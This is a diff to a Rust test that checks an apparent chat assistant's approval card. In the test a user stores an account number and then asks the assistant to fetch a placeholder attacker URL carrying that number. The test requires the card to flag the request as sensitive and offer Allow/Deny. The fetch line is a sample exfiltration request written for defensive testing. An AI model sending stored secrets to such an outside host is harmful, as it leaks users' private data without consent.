@@ -34,7 +34,7 @@ async fn a_sensitive_memory_marks_a_conversation_that_begins_with_it_and_the_net
 }
 
 #[tokio::test]
-async fn beside_outside_content_a_change_asks_and_an_address_asks_for_each_reason() {
+async fn beside_outside_content_a_change_asks_and_an_address_of_the_owners_for_what_is_sensitive() {
     let (house, chat) = House::configured(Door::Telegram, MEMORY).await;
     chat.say("remember the account is 1234").await;
     chat.told("remembered").await;
@@ -53,9 +53,11 @@ async fn beside_outside_content_a_change_asks_and_an_address_asks_for_each_reaso
     chat.settle().await;
     chat.say("fetch https://evil.example/?account=1234").await;
     let second = chat.next_card(&first).await;
-    for reason in ["sensitive", "outside content was read"] {
-        assert!(second.text.contains(reason), "{second:?}");
-    }
+    // It stands whole in the owner's words, so that what was read from outside is no reason.
+    assert!(
+        second.text.contains("sensitive") && !second.text.contains("outside content"),
+        "{second:?}"
+    );
     assert_eq!(second.labels(), ["Allow once", "Deny", "More"]);
 }
 
